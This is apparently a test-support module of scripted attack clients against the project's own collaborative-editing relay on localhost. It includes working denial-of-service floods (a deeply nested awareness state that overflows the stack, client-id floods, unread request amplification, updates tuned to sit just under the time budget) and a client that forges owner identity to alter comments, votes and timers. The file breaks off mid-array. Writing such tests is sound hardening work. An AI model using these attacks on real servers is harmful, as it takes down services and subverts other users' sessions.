import { randomBytes } from 'node:crypto';
import http from 'node:http';
import net from 'node:net';
import * as decoding from 'lib0/decoding';
import * as encoding from 'lib0/encoding';
import WebSocket from 'ws';
import { WebsocketProvider } from 'y-websocket';
import * as Y from 'yjs';
import { identityIdOf, newIdentitySecret } from '../../src/access/identity';
import { roomName, type RegisteredMap } from '../../src/access/rooms';
import { readJourney } from '../../src/model/doc';
import type { FeedbackActor } from '../../src/model/actor';
import { addComment, commentsMap, deleteComment, editComment, readComments } from '../../src/model/feedback';
import { addCard } from '../../src/model/ops/cards';
import { createMapFromTemplate } from '../../src/model/templates';
import { countedDots, dotsMap, placeDot, readDots, readRound, revealRound, startRound, takeBackDot } from '../../src/model/votes';
import { readPresenter, readTimer, setPresenter, startTimer } from '../../src/model/workshop';
import { presenterPeer } from '../../src/store/follow';
import { SyncSession } from '../../src/sync/session';
import { craftPlantedList, craftQuadraticUpdate, updateFrame } from './relay';

/**
 * Attack clients for the issue "A relay that no anonymous visitor can take down or subvert".
 *
 * Each attack speaks the y-websocket protocol over raw `ws` sockets (or drives the app's own model
 * functions through a stock y-websocket provider), runs against a port + room + token, stops at
 * its `durationMs` or when its `signal` aborts, and resolves with **figures** — counts, bytes,
 * milliseconds, close codes, 1/0 for "this reached another client" — never with a verdict. What
 * the figures mean for the server (did it die, how much memory, how slow were others meanwhile)
 * is measured from outside by bench/attacks-report.ts and bench/attack.bench.ts
 * (tests/support/attackProbes.ts).
 *
 * Every attack is also reachable by name (`ATTACKS`), so it can run in a process of its own
 * (tests/support/attackRunner.ts) and not steal the event loop of whoever measures.
 *
 * Attacks keep going after the relay closes them (they reconnect, as an attacker would), and never
 * throw because the relay refused or died: an upgrade refused, a connection reset, a server gone
 * are counted, not raised.
 */

export type Figures = Record<string, number>;

/** A room of the relay and the token an attacker holds for it. */
export interface Target {
  port: number;
  /** `<mapId>` or `<mapId>/feedback` */
  room: string;
  token: string;
}

export interface RunOptions {
  /** how long the attack runs (attacks that are one-shot ignore it) */
  durationMs?: number;
  /** stops the attack early */
  signal?: AbortSignal;
}

// ---------------------------------------------------------------------------------------------
// Plumbing
// ---------------------------------------------------------------------------------------------

export function sleep(ms: number, signal?: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (signal?.aborted) return resolve();
    const done = () => {
      clearTimeout(timer);
      signal?.removeEventListener('abort', done);
      resolve();
    };
    const timer = setTimeout(done, ms);
    signal?.addEventListener('abort', done, { once: true });
  });
}

/** The relay answered an upgrade with a plain HTTP status instead of 101. */
export class UpgradeRefused extends Error {
  constructor(readonly status: number) {
    super(`upgrade refused with ${status}`);
  }
}

export function syncUrl(port: number, room: string, token: string, params: Record<string, string> = {}): string {
  const query = new URLSearchParams({ token, ...params });
  return `ws://127.0.0.1:${port}/sync/${room}?${query.toString()}`;
}

export interface OpenOptions {
  /** extra query parameters (an identity secret, say) */
  params?: Record<string, string>;
  /** biggest message this socket accepts; 0: any */
  maxPayload?: number;
  /** ms until a handshake that did not finish counts as failed */
  timeoutMs?: number;
}

/**
 * A raw WebSocket to a room, open. Rejects with `UpgradeRefused` (and the HTTP status) when the
 * relay refuses the upgrade, or with the connection error. Errors after opening end in 'close'.
 */
export function openSocket(port: number, room: string, token: string, options: OpenOptions = {}): Promise<WebSocket> {
  const ws = new WebSocket(syncUrl(port, room, token, options.params), {
    perMessageDeflate: false,
    maxPayload: options.maxPayload ?? 100 * 1024 * 1024,
    handshakeTimeout: options.timeoutMs ?? 10_000,
  });
  ws.on('error', () => {});
  return new Promise((resolve, reject) => {
    ws.once('open', () => resolve(ws));
    ws.once('unexpected-response', (_req, res) => {
      res.resume();
      reject(new UpgradeRefused(res.statusCode ?? 0));
      ws.terminate();
    });
    ws.once('close', () => reject(new Error('connection closed before it opened')));
  });
}

/** Stops reading a socket: what the relay sends piles up in its kernel buffers, then in its process. */
export function stopReading(ws: WebSocket): void {
  (ws as unknown as { _socket?: net.Socket })._socket?.pause();
}

/** Resolves with the close code and reason once `ws` is closed (1006 when the connection just went). */
export function closeOf(ws: WebSocket): Promise<{ code: number; reason: string }> {
  if (ws.readyState === WebSocket.CLOSED) return Promise.resolve({ code: 1006, reason: '' });
  return new Promise((resolve) => ws.once('close', (code, reason) => resolve({ code, reason: reason.toString() })));
}

function bump(figures: Figures, key: string, by = 1): void {
  figures[key] = (figures[key] ?? 0) + by;
}

export function percentile(samples: readonly number[], p: number): number {
  if (samples.length === 0) return 0;
  const sorted = [...samples].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

/** The y-websocket message type (and for sync, the step) of a received frame. */
function kindOf(data: Uint8Array): { type: number; step: number; payloadLength: number } {
  try {
    const decoder = decoding.createDecoder(data);
    const type = decoding.readVarUint(decoder);
    if (type !== 0) return { type, step: -1, payloadLength: data.length };
    const step = decoding.readVarUint(decoder);
    const payloadLength = decoding.readVarUint(decoder);
    return { type, step, payloadLength };
  } catch {
    return { type: -1, step: -1, payloadLength: 0 };
  }
}

const toBytes = (data: WebSocket.RawData): Uint8Array =>
  Buffer.isBuffer(data) ? data : Array.isArray(data) ? Buffer.concat(data) : new Uint8Array(data);

// ---------------------------------------------------------------------------------------------
// Frames
// ---------------------------------------------------------------------------------------------

/** query-awareness: one byte, answered with every awareness state of the room */
export const QUERY_AWARENESS = Uint8Array.of(3);
/** sync step 1 with an empty state vector: four bytes, answered with the whole room */
export const SYNC_STEP1_EMPTY = Uint8Array.of(0, 0, 1, 0);

/** An awareness message: each entry's state is JSON text, sent as is (it need not round-trip). */
export function awarenessFrame(entries: ReadonlyArray<{ clientId: number; clock: number; json: string }>): Uint8Array {
  const inner = encoding.createEncoder();
  encoding.writeVarUint(inner, entries.length);
  for (const { clientId, clock, json } of entries) {
    encoding.writeVarUint(inner, clientId);
    encoding.writeVarUint(inner, clock);
    encoding.writeVarString(inner, json);
  }
  const outer = encoding.createEncoder();
  encoding.writeVarUint(outer, 1);
  encoding.writeVarUint8Array(outer, encoding.toUint8Array(inner));
  return encoding.toUint8Array(outer);
}

/** A presence state as the app publishes it (src/sync/session.ts). */
export function presenceJson(name: string, id = '', view: unknown = null): string {
  return JSON.stringify({ user: { id, name, color: '#2563eb' }, cursor: null, selection: [], view });
}

/** Client ids from 2^28 on take exactly five varuint bytes, so a frame's ids can be rewritten in place. */
const FIVE_BYTE_IDS = 2 ** 28;
const FIVE_BYTE_MAX = 2 ** 35 - 1;

/**
 * Awareness frames announcing `count` fresh client ids each, all with the same state, built once
 * and rewritten in place for each next batch of ids (the attacker must not be the bottleneck).
 */
export class IdFloodFrames {
  private readonly frame: Uint8Array;
  private readonly offsets: number[] = [];
  private next: number;

  constructor(
    readonly count: number,
    json: string,
    firstId = FIVE_BYTE_IDS + Math.floor(Math.random() * 2 ** 33),
  ) {
    this.next = firstId;
    const inner = encoding.createEncoder();
    encoding.writeVarUint(inner, count);
    const innerOffsets: number[] = [];
    for (let i = 0; i < count; i++) {
      innerOffsets.push(encoding.length(inner));
      encoding.writeVarUint(inner, FIVE_BYTE_IDS);
      encoding.writeVarUint(inner, 1); // clock
      encoding.writeVarString(inner, json);
    }
    const body = encoding.toUint8Array(inner);
    const outer = encoding.createEncoder();
    encoding.writeVarUint(outer, 1);
    encoding.writeVarUint(outer, body.length);
    const head = encoding.length(outer);
    encoding.writeUint8Array(outer, body);
    this.frame = encoding.toUint8Array(outer);
    for (const offset of innerOffsets) this.offsets.push(head + offset);
  }

  get bytes(): number {
    return this.frame.length;
  }

  /** The next frame: `count` ids never announced before (ws copies it on send). */
  take(): Uint8Array {
    if (this.next + this.count > FIVE_BYTE_MAX) this.next = FIVE_BYTE_IDS;
    const frame = this.frame;
    for (const offset of this.offsets) {
      let id = this.next++;
      for (let b = 0; b < 4; b++) {
        frame[offset + b] = (id % 128) | 0x80;
        id = Math.floor(id / 128);
      }
      frame[offset + 4] = id;
    }
    return frame;
  }
}

// ---------------------------------------------------------------------------------------------
// Setup helpers (what a legitimate owner does before the attacks)
// ---------------------------------------------------------------------------------------------

export async function registerMap(port: number, id: string): Promise<RegisteredMap> {
  const res = await fetch(`http://127.0.0.1:${port}/api/maps`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ id }),
  });
  if (res.status !== 201) throw new Error(`registering ${id}: ${res.status} ${await res.text()}`);
  return (await res.json()) as RegisteredMap;
}

/** A big map as its owner wrote it: the updates, in order, and the size of the whole. */
export interface BigMap {
  updates: Uint8Array[];
  /** bytes of the whole map as one update (what a sync step 2 for an empty state vector carries) */
  bytes: number;
}

/**
 * A big but realistic map: the retail template plus `extraCards` cards with a few lines of body
 * each, as the updates of someone who added them `cardsPerUpdate` at a time (each a cheap check
 * for the relay, as a real map's history is; one 1.2 MB update can miss the update-check budget
 * on a busy machine).
 */
export function bigMap(extraCards = 3000, cardsPerUpdate = 100): BigMap {
  const doc = createMapFromTemplate('retail', 'en');
  const updates = [Y.encodeStateAsUpdate(doc)];
  let batch: Uint8Array[] = [];
  doc.on('update', (update: Uint8Array) => batch.push(update));
  const journey = readJourney(doc);
  for (let i = 0; i < extraCards; i++) {
    const stage = journey.stages[i % journey.stages.length]!;
    const lane = journey.lanes[Math.floor(i / journey.stages.length) % journey.lanes.length]!;
    addCard(doc, {
      stageId: stage.id,
      laneId: lane.id,
      title: `Finding ${i} from interview ${i % 40}`,
      body: `Observed in session ${i}: the customer looked for the delivery date twice. `.repeat(3),
    });
    if (batch.length >= cardsPerUpdate || i === extraCards - 1) {
      updates.push(Y.mergeUpdates(batch));
      batch = [];
    }
  }
  const bytes = Y.encodeStateAsUpdate(doc).length;
  doc.destroy();
  return { updates, bytes };
}

/** Sends sync step 1 (empty state vector) and resolves with the size of the sync step 2 answer, or -1. */
export function roomSize(ws: WebSocket, timeoutMs = 30_000): Promise<number> {
  if (ws.readyState !== WebSocket.OPEN) return Promise.resolve(-1);
  return new Promise((resolve) => {
    const timer = setTimeout(() => finish(-1), timeoutMs);
    const onMessage = (data: WebSocket.RawData) => {
      const kind = kindOf(toBytes(data));
      if (kind.type === 0 && kind.step === 1) finish(kind.payloadLength);
    };
    const finish = (n: number) => {
      clearTimeout(timer);
      ws.off('message', onMessage);
      ws.off('close', onClose);
      resolve(n);
    };
    const onClose = () => finish(-1);
    ws.on('message', onMessage);
    ws.once('close', onClose);
    ws.send(SYNC_STEP1_EMPTY);
  });
}

/**
 * Writes a map into a room as its owner would (its updates, paced under the message rate limit)
 * and resolves with the room's size once it holds 90 % of `map.bytes`. A connection the relay
 * closes meanwhile is opened again and everything resent (Yjs ignores what it has). Throws after
 * three attempts or `timeoutMs`.
 */
export async function writeRoom(target: Target, map: BigMap, timeoutMs = 90_000): Promise<number> {
  const deadline = performance.now() + timeoutMs;
  const wanted = Math.floor(map.bytes * 0.9);
  let size = -1;
  for (let attempt = 0; attempt < 3 && performance.now() < deadline; attempt++) {
    const writer = await openSocket(target.port, target.room, target.token, { maxPayload: 0 });
    for (const update of map.updates) {
      if (writer.readyState !== WebSocket.OPEN) break;
      writer.send(updateFrame(update));
      await sleep(15);
    }
    while (writer.readyState === WebSocket.OPEN && performance.now() < deadline) {
      size = await roomSize(writer, Math.max(1, Math.min(30_000, deadline - performance.now())));
      if (size >= wanted) {
        writer.close();
        return size;
      }
      await sleep(100);
    }
    writer.terminate();
  }
  throw new Error(`the room took ${size} of the map's ${map.bytes} bytes`);
}

/**
 * A room's presence, as a workshop of `states` people would have it (each state about
 * `stateBytes` long), kept up by one reading connection until `close()`: what a query-awareness
 * request sends back.
 */
export async function primeAwareness(target: Target, states: number, stateBytes = 250): Promise<{ bytes: number; close(): void }> {
  const ws = await openSocket(target.port, target.room, target.token);
  const perFrame = Math.max(1, Math.floor(48_000 / (stateBytes + 12)));
  let bytes = 0;
  const base = FIVE_BYTE_IDS + Math.floor(Math.random() * 2 ** 30);
  for (let from = 0; from < states; from += perFrame) {
    const entries = [];
    for (let i = from; i < Math.min(states, from + perFrame); i++) {
      const json = presenceJson(`Participant ${i} ${'x'.repeat(Math.max(0, stateBytes - 110))}`, `participant-${i}`);
      entries.push({ clientId: base + i, clock: 1, json });
      bytes += json.length;
    }
    ws.send(awarenessFrame(entries));
    await sleep(15);
  }
  return { bytes, close: () => ws.close() };
}

// ---------------------------------------------------------------------------------------------
// a. Deep awareness
// ---------------------------------------------------------------------------------------------

export interface DeepAwarenessArgs extends Target {
  /** nesting depth of the state: JSON.parse takes it, JSON.stringify overflows the stack */
  depth?: number;
  /** what follows: another peer's query-awareness, a second peer joining, or both */
  followUp?: 'query' | 'join' | 'both';
  /** how long to watch what happens */
  watchMs?: number;
}

/**
 * One awareness update whose state is nested `depth` levels deep. It parses, so the relay stores
 * it; re-encoding it (to broadcast it, to answer a query-awareness, to greet a joining peer) runs
 * JSON.stringify into a stack overflow. The sender stops reading, so its own close handshake does
 * not clear the state; a second socket then asks for awareness and/or a third joins.
 */
export async function deepAwareness(args: DeepAwarenessArgs): Promise<Figures> {
  const { port, room, token, depth = 5000, followUp = 'both', watchMs = 2000 } = args;
  const figures: Figures = { depth };
  const deep = `{"user":{"name":"x","color":"#2563eb"},"deep":${'['.repeat(depth)}${']'.repeat(depth)}}`;
  const frame = awarenessFrame([{ clientId: 0xdeadbe, clock: 1, json: deep }]);
  figures.frameBytes = frame.length;

  const sockets: WebSocket[] = [];
  try {
    const asker = await openSocket(port, room, token);
    sockets.push(asker);
    const askerClose = closeOf(asker);
    const attacker = await openSocket(port, room, token);
    sockets.push(attacker);
    const attackerClose = closeOf(attacker);
    attacker.send(frame);
    // do not answer the close frame: the relay keeps the peer (and its state) until it gives up on it
    stopReading(attacker);
    await sleep(100);

    let answered = 0;
    if (followUp !== 'join') {
      asker.on('message', (data) => {
        if (toBytes(data)[0] === 1) answered++;
      });
      asker.send(QUERY_AWARENESS);
    }
    let joinOpened = -1;
    let joinGreeted = -1;
    let joinClose: Promise<{ code: number; reason: string }> | null = null;
    if (followUp !== 'query') {
      joinOpened = 0;
      joinGreeted = 0;
      try {
        const joiner = await openSocket(port, room, token, { timeoutMs: watchMs });
        sockets.push(joiner);
        joinOpened = 1;
        joinClose = closeOf(joiner);
        joiner.on('message', (data) => {
          const kind = kindOf(toBytes(data));
          if (kind.type === 0 && kind.step === 0) joinGreeted = 1;
        });
      } catch (error) {
        figures.joinRefusedStatus = error instanceof UpgradeRefused ? error.status : 0;
      }
    }
    await sleep(watchMs);
    const codeOr = async (p: Promise<{ code: number }> | null) => (p ? ((await Promise.race([p, sleep(10).then(() => null)]))?.code ?? 0) : -1);
    figures.attackerCloseCode = await codeOr(attackerClose);
    figures.queryAnswered = followUp === 'join' ? -1 : answered;
    figures.askerCloseCode = await codeOr(askerClose);
    figures.joinOpened = joinOpened;
    figures.joinGreeted = joinGreeted;
    figures.joinCloseCode = await codeOr(joinClose);
  } catch (error) {
    figures.setupFailed = 1;
    if (error instanceof UpgradeRefused) figures.setupRefusedStatus = error.status;
  } finally {
    for (const ws of sockets) ws.terminate();
  }
  return figures;
}

// ---------------------------------------------------------------------------------------------
// Sending at a rate, reconnecting when closed
// ---------------------------------------------------------------------------------------------

interface FloodOptions extends RunOptions {
  open: () => Promise<WebSocket>;
  /** messages per second per connection (the relay allows 100 sustained, 300 at once) */
  perSecond: number;
  next: () => Uint8Array;
  /** bytes the attacker lets pile up in its own send buffer before it waits */
  maxOwnBuffer?: number;
  /** open a fresh connection after this many messages, leaving the old one to the relay */
  rotateAfter?: number;
  /** stop reading what the relay sends */
  noRead?: boolean;
  figures: Figures;
}

/** One attacking connection's life: open, send at `perSecond`, and when closed, open another. */
async function flood(options: FloodOptions): Promise<void> {
  const { figures, signal } = options;
  const deadline = performance.now() + (options.durationMs ?? 10_000);
  const over = () => signal?.aborted === true || performance.now() >= deadline;
  const lingering: WebSocket[] = [];
  let first = true;
  while (!over()) {
    let ws: WebSocket;
    try {
      ws = await options.open();
    } catch (error) {
      bump(figures, error instanceof UpgradeRefused ? `refused${error.status}` : 'connectErrors');
      await sleep(100, signal);
      continue;
    }
    if (!first) bump(figures, 'reconnects');
    first = false;
    bump(figures, 'connections');
    if (options.noRead) stopReading(ws);
    let closed = false;
    ws.once('close', (code) => {
      closed = true;
      bump(figures, `closed${code}`);
    });
    const start = performance.now();
    let sent = 0;
    while (!closed && !over()) {
      const due = Math.floor(((performance.now() - start) / 1000) * options.perSecond) + 1 - sent;
      for (let i = 0; i < due && !closed; i++) {
        if (ws.bufferedAmount > (options.maxOwnBuffer ?? 4 * 1024 * 1024)) {
          bump(figures, 'ownBufferWaits');
          break;
        }
        const message = options.next();
        ws.send(message);
        sent++;
        bump(figures, 'messages');
        bump(figures, 'bytesSent', message.length);
      }
      if (options.rotateAfter && sent >= options.rotateAfter) break;
      await sleep(10, signal);
    }
    if (!closed && !over()) {
      lingering.push(ws); // rotated: left to the relay, still not reading
    } else {
      ws.terminate();
    }
  }
  for (const ws of lingering) ws.terminate();
}

// ---------------------------------------------------------------------------------------------
// b. Awareness id flood
// ---------------------------------------------------------------------------------------------

export interface AwarenessFloodArgs extends Target, RunOptions {
  /** `null`: ids announced and removed at once (no state, no broadcast); `small`: a small presence each */
  mode?: 'null' | 'small';
  connections?: number;
  perSecond?: number;
  /**
   * ids per message; default 1,000: under both relays' limits (the unfixed one's 64 KiB message,
   * the fixed one's AWARENESS_STATES_PER_ROOM + AWARENESS_CLIENTS_PER_CONNECTION entries), so the
   * flood is measured, not refused unread
   */
  idsPerMessage?: number;
}

/**
 * A view-role connection announcing fresh awareness client ids as fast as the message limits
 * allow. With state `null` nothing is broadcast, but y-protocols remembers every id's clock (its
 * `meta` map) for as long as the room lives; with small states every id is stored, broadcast and
 * tracked until the connection leaves.
 */
export async function awarenessIdFlood(args: AwarenessFloodArgs): Promise<Figures> {
  const { port, room, token, mode = 'null', connections = 1, perSecond = 95 } = args;
  const json = mode === 'null' ? 'null' : '{"user":{"name":"n","color":"#2563eb"}}';
  const perId = 5 + 1 + 1 + json.length;
  const idsPerMessage = args.idsPerMessage ?? Math.min(1000, Math.floor((64 * 1024 - 8) / perId));
  const figures: Figures = { connectionsWanted: connections, idsPerMessage };
  const start = performance.now();
  await Promise.all(
    Array.from({ length: connections }, () => {
      const frames = new IdFloodFrames(idsPerMessage, json);
      return flood({
        ...args,
        figures,
        perSecond,
        open: () => openSocket(port, room, token),
        next: () => frames.take(),
        // what the relay sends back is read and dropped
      });
    }),
  );
  figures.ids = (figures.messages ?? 0) * idsPerMessage;
  figures.seconds = (performance.now() - start) / 1000;
  return figures;
}

// ---------------------------------------------------------------------------------------------
// c. Cheap-request amplification
// ---------------------------------------------------------------------------------------------

export interface CheapRequestArgs extends Target, RunOptions {
  sockets?: number;
  perSecond?: number;
  /** which requests: one-byte query-awareness, four-byte sync step 1, or the two in turn */
  kind?: 'query' | 'step1' | 'both';
  /** open a fresh socket after this many requests and leave the old one, unread, to the relay */
  rotateAfter?: number;
}

/**
 * Sockets that never read, each sending one-byte query-awareness and four-byte sync step 1
 * requests at the message limit. Every sync step 1 with an empty state vector is answered with
 * the whole room, every query-awareness with every presence in it; none of it is read, so it
 * piles up in the relay until it gives up on the socket.
 */
export async function cheapRequestFlood(args: CheapRequestArgs): Promise<Figures> {
  const { port, room, token, sockets = 4, perSecond = 95, kind = 'both' } = args;
  const figures: Figures = { sockets };
  await Promise.all(
    Array.from({ length: sockets }, () => {
      let n = 0;
      return flood({
        ...args,
        figures,
        perSecond,
        noRead: true,
        open: () => openSocket(port, room, token),
        next: () => (kind === 'query' || (kind === 'both' && n++ % 2 === 1) ? QUERY_AWARENESS : SYNC_STEP1_EMPTY),
      });
    }),
  );
  return figures;
}

// ---------------------------------------------------------------------------------------------
// d. Near-budget updates
// ---------------------------------------------------------------------------------------------

export interface CalibrateArgs {
  /** the relay's UPDATE_CHECK_TIMEOUT_MS */
  budgetMs?: number;
  /** share of the budget one crafted update should take */
  fraction?: number;
  plantedLength?: number;
}

/**
 * How many crafted items (`craftQuadraticUpdate`) against a planted list of `plantedLength` take
 * `fraction` of the update-check budget to integrate, timed here (the relay's worker runs the same
 * Yjs on the same machine).
 */
export async function calibrateNearBudget(args: CalibrateArgs = {}): Promise<Figures> {
  const { budgetMs = 1000, fraction = 0.8, plantedLength = 2500 } = args;
  const goal = budgetMs * fraction;
  const planted = craftPlantedList(plantedLength);
  const once = (count: number) => {
    const doc = new Y.Doc();
    Y.applyUpdate(doc, planted);
    const crafted = craftQuadraticUpdate(count, plantedLength);
    const start = performance.now();
    Y.applyUpdate(doc, crafted);
    const ms = performance.now() - start;
    doc.destroy();
    return ms;
  };
  // the faster of two runs: the less disturbed by whatever else this machine does
  const cost = (count: number) => Math.min(once(count), once(count));
  const trials: Array<{ count: number; ms: number }> = [];
  let count = 1000;
  for (let trial = 0; trial < 6; trial++) {
    const ms = cost(count);
    trials.push({ count, ms });
    if (Math.abs(ms - goal) <= goal * 0.05) break;
    // integration time grows about linearly with the count against a list of fixed length
    count = Math.max(20, Math.min(40_000, Math.round(count * (goal / Math.max(1, ms)))));
    await sleep(0);
  }
  // the trial nearest the goal without going over it by more than 5 % (this machine's other work
  // makes single timings jumpy), else the smallest
  const fitting = trials.filter((t) => t.ms <= goal * 1.05).sort((a, b) => b.ms - a.ms);
  const best = fitting[0] ?? [...trials].sort((a, b) => a.ms - b.ms)[0]!;
  return {
    count: best.count,
    costMs: best.ms,
    budgetMs,
    fractionOfBudget: best.ms / budgetMs,
    bytes: craftQuadraticUpdate(best.count, plantedLength).length,
    plantedLength,
    trials: trials.length,
  };
}

export interface NearBudgetArgs extends RunOptions {
  port: number;
  /** the attacker's own maps, one attacking connection on each (edit token), watched with the view token */
  maps: ReadonlyArray<{ room: string; editToken: string; viewToken: string }>;
  /** crafted items per update (calibrateNearBudget) */
  count: number;
  plantedLength?: number;
  budgetMs?: number;
}

/**
 * On each of the attacker's own maps, over and over: plant a fresh list (small ordinary updates),
 * then send one update crafted to take just under the update-check budget against it. The worker
 * lets it pass; the relay's main thread then integrates it itself, for about as long. When the
 * relay closes the connection (1008 "update rate limit", or 1007 if over budget) another is opened.
 * A reading connection on the same map sees which crafted updates were applied (broadcast). The
 * count starts at the calibrated one and follows the relay's answers: 15 % fewer items after a
 * 1007 (over budget), 4 % more after one went through, so it settles just under the budget as the
 * relay's worker experiences it (about one in five refused).
 */
export async function nearBudgetUpdates(args: NearBudgetArgs): Promise<Figures> {
  const { port, signal, plantedLength = 2500, budgetMs = 1000 } = args;
  const figures: Figures = { countStart: args.count, maps: args.maps.length };
  const deadline = performance.now() + (args.durationMs ?? 20_000);
  const over = () => signal?.aborted === true || performance.now() >= deadline;
  const costs: number[] = [];
  await Promise.all(
    args.maps.map(async ({ room, editToken, viewToken }, m) => {
      let count = args.count;
      let bigSeen = 0;
      let wake: (() => void) | null = null;
      let observer: WebSocket | null = null;
      const watch = async () => {
        try {
          observer = await openSocket(port, room, viewToken);
          observer.on('message', (data) => {
            const kind = kindOf(toBytes(data));
            if (kind.type === 0 && kind.step === 2 && kind.payloadLength > 4096) {
              bigSeen++;
              bump(figures, 'applied');
              wake?.();
            }
          });
        } catch {
          bump(figures, 'observerFailed');
        }
      };
      await watch();
      let list = 0;
      while (!over()) {
        let ws: WebSocket;
        try {
          ws = await openSocket(port, room, editToken);
        } catch (error) {
          bump(figures, error instanceof UpgradeRefused ? `refused${error.status}` : 'connectErrors');
          await sleep(200, signal);
          continue;
        }
        bump(figures, 'connections');
        let closedCode = 0;
        ws.once('close', (code) => {
          closedCode = code;
          bump(figures, `closed${code}`);
          wake?.();
        });
        while (!closedCode && !over()) {
          const plantedFirst = 10_000_000 + (m * 10_000 + list) * plantedLength;
          const craftedFirst = 2_000_000_000 + (m * 10_000 + list) * 50_000;
          const name = `p${list}`;
          for (let from = 0; from < plantedLength; from += 250) {
            ws.send(updateFrame(craftPlantedList(Math.min(plantedLength, from + 250), from, plantedFirst, name)));
          }
          const crafted = craftQuadraticUpdate(count, plantedLength, plantedFirst, craftedFirst);
          const seenBefore = bigSeen;
          const sentAt = performance.now();
          ws.send(updateFrame(crafted));
          bump(figures, 'craftedSent');
          bump(figures, 'craftedBytes', crafted.length);
          list++;
          await new Promise<void>((resolve) => {
            const timer = setTimeout(done, budgetMs * 4 + 5000);
            function done() {
              clearTimeout(timer);
              wake = null;
              resolve();
            }
            wake = () => {
              if (bigSeen > seenBefore || closedCode) done();
            };
            if (bigSeen > seenBefore || closedCode) done();
          });
          // as an attacker would: just under what the relay lets through, found by trying (the relay's
          // worker shares the machine with its main thread, so it is slower than calibrateNearBudget)
          if (bigSeen > seenBefore) {
            costs.push(performance.now() - sentAt);
            count = Math.round(count * 1.04);
          } else if (closedCode === 1007) {
            count = Math.max(20, Math.floor(count * 0.85));
          }
        }
        ws.terminate();
      }
      (observer as WebSocket | null)?.terminate();
      figures[`countEnd${m}`] = count;
    }),
  );
  // from sending to seeing the broadcast: the worker's check plus the relay's own integration
  figures.roundTripP50Ms = percentile(costs, 50);
  figures.roundTripMaxMs = costs.length ? Math.max(...costs) : 0;
  return figures;
}

// ---------------------------------------------------------------------------------------------
// e. Workshop subversion by a comment link, and a view link posing as the presenter
// ---------------------------------------------------------------------------------------------

export interface WorkshopArgs {
  port: number;
  mapId: string;
  ownerToken: string;
  commentToken: string;
  viewToken: string;
  /** how long to wait for a change to reach the owner */
  settleMs?: number;
}

type Provider = { doc: Y.Doc; provider: WebsocketProvider; denied: string[]; destroy(): void };

function stockClient(port: number, room: string, token: string, secret: string, doc = new Y.Doc()): Provider {
  const provider = new WebsocketProvider(`ws://127.0.0.1:${port}/sync`, room, doc, {
    // the identity secret is what a client proves its identity with (src/access/identity.ts);
    // a relay that does not know it ignores it
    params: { token, identity: secret },
    WebSocketPolyfill: WebSocket as unknown as typeof globalThis.WebSocket,
    disableBc: true,
    maxBackoffTime: 300,
  });
  const denied: string[] = [];
  provider.messageHandlers[2] = (_encoder, decoder) => {
    if (decoding.readVarUint(decoder) === 0) denied.push(decoding.readVarString(decoder));
  };
  return {
    doc,
    provider,
    denied,
    destroy() {
      provider.destroy();
      provider.awareness.destroy();
      doc.destroy();
    },
  };
}

async function until(condition: () => boolean, timeoutMs: number): Promise<boolean> {
  const start = performance.now();
  while (!condition()) {
    if (performance.now() - start > timeoutMs) return false;
    await sleep(20);
  }
  return true;
}

/**
 * A workshop: the owner opened a dot-voting round and wrote two comments, a participant placed a
 * dot. Someone holding only the **comment** link then uses the app's own model functions, each
 * from a fresh connection (so one refused change cannot hold up the next): presenter, timer,
 * edit and delete the owner's comments, a comment in the owner's name, take back another voter's
 * dot, dots under invented voters, reveal the open round. Figures: 1 for each change that reached
 * the owner's copy, 0 for each that did not. The model functions refuse such writes on the client
 * (src/model/actor.ts), so the attacker does what a modified client would: it claims to be the
 * owner there, while its connection proves its own identity. Then someone holding only the **view** link sends one
 * awareness frame with the presenter's identity id and a `view`; a follower (a participant's
 * SyncSession, `presenterPeer`) either follows it (1) or not (0).
 */
export async function workshopSubversion(args: WorkshopArgs): Promise<Figures> {
  const { port, mapId, ownerToken, commentToken, viewToken, settleMs = 2000 } = args;
  const feedbackRoom = roomName(mapId, 'feedback');
  const figures: Figures = {};
  const clients: Provider[] = [];
  const sessions: SyncSession[] = [];
  const sockets: WebSocket[] = [];
  const ownerSecret = newIdentitySecret();
  const ownerId = identityIdOf(ownerSecret)!;
  const voterSecret = newIdentitySecret();
  const voterId = identityIdOf(voterSecret)!;
  const attackerSecret = newIdentitySecret();
  try {
    const owner = stockClient(port, feedbackRoom, ownerToken, ownerSecret);
    clients.push(owner);
    if (!(await until(() => owner.provider.synced, 10_000))) {
      figures.ownerNotSynced = 1;
      return figures;
    }
    const ownerActor = { id: ownerId, owner: true } as const;
    const roundId = startRound(owner.doc, ownerActor, { title: 'Which pain point first?', votesPerPerson: 3, laneIds: [], anonymous: false, durationMs: null, startedBy: 'Owner' });
    const kept = addComment(owner.doc, ownerActor, { cardId: 'card-1', author: 'Owner', authorId: ownerId, text: 'Check the delivery promise first.' });
    const doomed = addComment(owner.doc, ownerActor, { cardId: 'card-2', author: 'Owner', authorId: ownerId, text: 'Returns are the second topic.' });

    const voter = stockClient(port, feedbackRoom, commentToken, voterSecret);
    clients.push(voter);
    await until(() => voter.provider.synced && readRound(voter.doc, roundId) !== null, 10_000);
    const voterDot = placeDot(voter.doc, { id: voterId, owner: false }, { roundId, cardId: 'card-1', voterId, voterName: 'Voter' });
    figures.voterDotPlaced = (await until(() => voterDot !== null && dotsMap(owner.doc).has(voterDot), settleMs * 2)) ? 1 : 0;

    const edited = 'Nothing to see here (edited by a comment link).';
    let forged = '';
    // The app's model functions refuse, on the client, what the writer may not do; a modified
    // client simply claims to be the owner. Its connection still proves its own identity.
    const liar: FeedbackActor = { id: ownerId, owner: true };
    const steps: Array<[string, (doc: Y.Doc) => void, () => boolean]> = [
      ['presenterSet', (d) => void setPresenter(d, liar, { id: ownerId, name: 'Owner' }), () => readPresenter(owner.doc)?.id === ownerId],
      ['timerStarted', (d) => void startTimer(d, liar), () => readTimer(owner.doc).status === 'running'],
      ['ownerCommentEdited', (d) => void editComment(d, liar, kept, edited), () => readComments(owner.doc).find((c) => c.id === kept)?.text === edited],
      ['ownerCommentDeleted', (d) => void deleteComment(d, liar, doomed), () => !commentsMap(owner.doc).has(doomed)],
      [
        'commentAsOwner',
        (d) => {
          forged = addComment(d, liar, { cardId: 'card-1', author: 'Owner', authorId: ownerId, text: 'Ignore the returns topic, we decided already.' }) ?? '';
        },
        () => readComments(owner.doc).some((c) => c.id === forged && c.authorId === ownerId),
      ],
